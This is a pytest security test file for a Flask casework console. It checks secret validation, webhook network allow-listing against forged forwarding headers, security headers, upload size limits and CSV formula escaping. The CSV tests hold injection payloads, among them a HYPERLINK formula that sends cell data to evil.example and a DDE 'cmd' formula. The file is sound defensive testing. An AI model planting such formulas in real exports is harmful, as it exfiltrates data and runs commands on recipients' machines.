"""Production is safe by default, and every response defends the console: the attacks of docs/security.md failing.

Each test plays the attacker: a deployment started without secrets, a forged callback from outside the provider's
networks (directly, or with a forged X-Forwarded-For), a page framed by another site, an oversized upload.
"""

from __future__ import annotations

import csv
import io
import os
import re
import subprocess
import sys
from ipaddress import ip_network
from pathlib import Path

import pytest
from sqlalchemy import select

from config import PRODUCTION, SettingsError, load_settings
from gateway.app import environment_default
from models.reports import ReportTable, to_csv
from models.staff import StaffUser, issue_token
from notifications.casework.payments import MAX_IMPORT_BYTES
from tests.factories import PRODUCTION_SECRETS, make_staff, register
from tests.gateway.test_console_beneficiaries import log_in

PROJECT_ROOT = Path(__file__).resolve().parents[2]
PROVIDER_NETWORK = "196.201.214.0/24"
PROXY_NETWORK = "10.0.0.0/8"
DELIVERY_REPORT = {"id": "ATXid_1", "status": "Success", "phoneNumber": "+26658000001"}
NONCE_IN_HEADER = re.compile(r"style-src 'self' 'nonce-([^']+)'")


def production_environ(**changes) -> dict[str, str]:
    environ = {
        "APP_ENV": PRODUCTION,
        "SECRET_KEY": PRODUCTION_SECRETS["secret_key"],
        "WEBHOOK_TOKEN": PRODUCTION_SECRETS["webhook_token"],
        "DATA_ENCRYPTION_KEY": PRODUCTION_SECRETS["data_encryption_key"],
        "DATA_HASH_KEY": PRODUCTION_SECRETS["data_hash_key"],
        "DATABASE_URL": "sqlite://",
        "REDIS_URL": "redis://127.0.0.1:6379/0",
    }
    environ.update(changes)
    return {name: value for name, value in environ.items() if value is not None}


@pytest.mark.parametrize(
    ("changes", "named"),
    [
        ({"WEBHOOK_TOKEN": None}, "WEBHOOK_TOKEN"),
        ({"WEBHOOK_TOKEN": "t" * 31}, "WEBHOOK_TOKEN"),
        ({"SECRET_KEY": None}, "SECRET_KEY"),
        ({"SECRET_KEY": "s" * 31}, "SECRET_KEY"),
        ({"APP_ENV": None, "WEBHOOK_TOKEN": "short"}, "WEBHOOK_TOKEN"),
    ],
)
def test_production_refuses_to_start_without_long_secrets_and_says_why_in_one_line(changes, named):
    with pytest.raises(SettingsError) as refused:
        load_settings(production_environ(**changes))
    message = str(refused.value)
    assert named in message and "production" in message and "\n" not in message


def test_a_secret_key_is_counted_in_bytes():
    assert load_settings(production_environ(SECRET_KEY="é" * 16)).secret_key == "é" * 16


def test_a_process_without_app_env_is_production():
    assert load_settings(production_environ(APP_ENV=None)).app_env == PRODUCTION


def test_only_the_flask_dev_command_picks_development(monkeypatch):
    monkeypatch.delenv("APP_ENV", raising=False)
    assert environment_default(["/venv/bin/flask", "--app", "wsgi", "dev", "--port", "5001"]) == {
        "app_env": "development"
    }
    assert environment_default(["/usr/lib/python3/flask/__main__.py", "-A", "wsgi", "dev"]) == {
        "app_env": "development"
    }
    for argv in (
        ["/venv/bin/flask", "--app", "wsgi", "worker"],
        ["/venv/bin/flask", "--app", "dev", "worker"],
        ["/venv/bin/gunicorn", "wsgi:app"],
        ["/venv/bin/gunicorn", "dev"],
    ):
        assert environment_default(argv) == {}
    monkeypatch.setenv("APP_ENV", "production")
    assert environment_default(["/venv/bin/flask", "--app", "wsgi", "dev"]) == {}


def test_the_wsgi_entry_point_started_without_settings_refuses_with_the_reason(tmp_path):
    environ = {"PATH": os.environ["PATH"], "HOME": str(tmp_path), "DATABASE_URL": f"sqlite:///{tmp_path}/x.sqlite3"}
    started = subprocess.run(
        [sys.executable, "-c", "import wsgi"], cwd=PROJECT_ROOT, env=environ, capture_output=True, text=True
    )
    assert started.returncode != 0
    assert "SECRET_KEY must be at least 32 bytes in production" in started.stderr.strip().splitlines()[-1]
    flask = [sys.executable, "-m", "flask", "--app", "wsgi"]
    dev = subprocess.run([*flask, "dev", "--help"], cwd=PROJECT_ROOT, env=environ, capture_output=True, text=True)
    assert dev.returncode == 0, dev.stderr


def allow_listed_client(make_app):
    app = make_app(
        webhook_allowed_networks=(ip_network(PROVIDER_NETWORK),), trusted_proxies=(ip_network(PROXY_NETWORK),)
    )
    return app.test_client()


@pytest.mark.parametrize(
    ("peer", "forwarded_for", "status"),
    [
        ("196.201.214.7", None, 200),  # the provider itself
        ("203.0.113.9", None, 403),  # anyone else
        ("203.0.113.9", "196.201.214.7", 403),  # anyone else, claiming to be the provider
        ("10.0.0.2", "196.201.214.7", 200),  # the provider through our proxy
        ("10.0.0.2", "196.201.214.7, 10.0.0.3", 200),  # through two of our proxies
        ("10.0.0.2", "196.201.214.7, 203.0.113.9", 403),  # a forged first hop: the proxy saw 203.0.113.9
        ("10.0.0.2", None, 403),  # a proxy that names no caller
        ("10.0.0.2", "not-an-address", 403),
    ],
)
def test_webhooks_answer_only_the_allowed_networks(make_app, db, redis, peer, forwarded_for, status):
    client = allow_listed_client(make_app)
    headers = {"X-Forwarded-For": forwarded_for} if forwarded_for else {}
    response = client.post(
        "/webhooks/at/sms/delivery", data=DELIVERY_REPORT, headers=headers, environ_base={"REMOTE_ADDR": peer}
    )
    assert response.status_code == status
    if status == 403:
        assert response.mimetype == "text/plain" and "WEBHOOK_ALLOWED_NETWORKS" in response.get_data(as_text=True)


def test_a_forged_ussd_hop_from_outside_the_allowed_networks_sees_nothing(make_app, db, redis):
    client = allow_listed_client(make_app)
    form = {"sessionId": "S1", "serviceCode": "*123#", "phoneNumber": "+26658000001", "text": "2"}
    response = client.post("/webhooks/at/ussd", data=form, environ_base={"REMOTE_ADDR": "203.0.113.9"})
    assert response.status_code == 403 and not response.get_data(as_text=True).startswith(("CON", "END"))


def test_every_response_carries_the_security_headers(client, db):
    for path in ("/login", "/api/v1/me", "/no-such-page"):
        response = client.get(path)
        assert response.headers["X-Frame-Options"] == "DENY"
        assert response.headers["Referrer-Policy"] == "no-referrer"
        assert response.headers["Cache-Control"] == "no-store"
        policy = response.headers["Content-Security-Policy"]
        assert "frame-ancestors 'none'" in policy and "unsafe-inline" not in policy
        assert "Strict-Transport-Security" not in response.headers


def test_the_console_script_carries_this_responses_nonce_and_no_inline_style_attributes(client, db):
    log_in(client, db, "admin")
    first, second = client.get("/phone"), client.get("/phone")
    nonce = NONCE_IN_HEADER.search(first.headers["Content-Security-Policy"]).group(1)
    assert nonce != NONCE_IN_HEADER.search(second.headers["Content-Security-Policy"]).group(1)
    assert f'<script nonce="{nonce}">' in first.get_data(as_text=True)
    assert '<link rel="stylesheet" href="/static/console.css?v=' in first.get_data(as_text=True)
    templates = PROJECT_ROOT / "gateway" / "templates"
    for template in templates.rglob("*.html"):
        text = template.read_text()
        assert " style=" not in text and "<script>" not in text and "<style>" not in text, template


def test_production_adds_hsts(make_app, db, redis):
    response = make_app(app_env="production", **PRODUCTION_SECRETS).test_client().get("/login")
    assert response.headers["Strict-Transport-Security"].startswith("max-age=")


def test_a_too_large_form_gets_413_with_a_reason(make_app, db, redis):
    client = make_app(max_content_length=1000).test_client()
    response = client.post("/login", data={"email": "x" * 2000, "password": "y"})
    assert response.status_code == 413 and response.mimetype == "text/plain"
    assert "MAX_CONTENT_LENGTH" in response.get_data(as_text=True)


def test_a_too_large_api_request_gets_413_as_json(make_app, db, redis):
    make_staff(db, "officer@example.org", "officer")
    with db.session() as session:
        user = session.execute(select(StaffUser).filter_by(email="officer@example.org")).scalar_one()
        _, token = issue_token(session, user, "tests")
    client = make_app(max_content_length=1000).test_client()
    response = client.post(
        "/api/v1/beneficiaries/12345678/grant/events",
        json={"reason": "x" * 2000},
        headers={"Authorization": f"Bearer {token}"},
    )
    assert response.status_code == 413 and "MAX_CONTENT_LENGTH" in response.get_json()["error"]


def test_the_default_body_limit_leaves_room_for_the_largest_payment_import():
    assert load_settings({}, app_env="test").max_content_length > MAX_IMPORT_BYTES


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A2,"Maseru")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def test_no_csv_download_can_carry_a_formula(client, db):
    for number, formula in enumerate(FORMULAS):
        register(db, full_name=f"Thabo {chr(65 + number)}", village=formula, district="Berea")
    log_in(client, db)
    response = client.get("/beneficiaries/export.csv")
    assert response.status_code == 200
    villages = [row["village"] for row in csv.DictReader(io.StringIO(response.get_data(as_text=True), newline=""))]
    assert sorted(villages) == sorted("'" + formula for formula in FORMULAS)


def test_report_csv_cells_are_neutralised_and_numbers_kept():
    table = ReportTable(
        name="t", title="t", columns=["district", "count"], rows=[["=cmd|' /C calc'!A0", -3]], totals=["Total", 1]
    )
    assert to_csv(table).splitlines()[1] == "'=cmd|' /C calc'!A0,-3"


def test_every_csv_writer_is_the_safe_one():
    packages = ("config", "devtools", "gateway", "menus", "models", "notifications")
    sources = [path for package in packages for path in (PROJECT_ROOT / package).rglob("*.py")]
    writers = [path for path in sources if "csv.writer(" in path.read_text()]
    assert writers == [PROJECT_ROOT / "models" / "spreadsheet.py"]
